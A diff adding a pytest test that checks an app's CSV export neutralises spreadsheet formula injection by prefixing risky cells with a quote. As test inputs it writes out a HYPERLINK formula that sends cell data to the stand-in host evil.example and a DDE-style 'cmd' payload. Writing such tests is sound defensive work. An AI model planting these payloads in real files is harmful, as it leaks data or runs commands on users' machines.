@@ -182,3 +182,24 @@ def test_the_csv_lists_feelings_as_plain_text(fresh_owner_client, owner, passwor
     archive = zipfile.ZipFile(io.BytesIO(response.content))
     rows = list(csv_module.DictReader(io.StringIO(archive.read("reflections.csv").decode())))
     assert rows[0]["feelings"] == "hurt; sad"
+
+
+EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    fresh_owner_client, owner, password, start
+):
+    owner_client = fresh_owner_client  # allauth asks for the password again before export
+    title = EVIL if start == "=" else f"{start}1+1"
+    promise(owner, title=title)
+    Person.objects.create(owner=owner, name="Sam", note=f"{start}cmd|' /C calc'!A0")
+    archive = zipfile.ZipFile(io.BytesIO(post(owner_client, password, "zip").content))
+    commitments = list(csv.DictReader(io.StringIO(archive.read("commitments.csv").decode())))
+    assert commitments[0]["title"] == "'" + title
+    people = list(csv.DictReader(io.StringIO(archive.read("people.csv").decode())))
+    assert people[0]["note"].startswith("'" + start)
+    # The JSON export keeps the text exactly as it was written.
+    document = json.loads(post(owner_client, password).content)
+    assert document["data"]["commitments"][0]["title"] == title
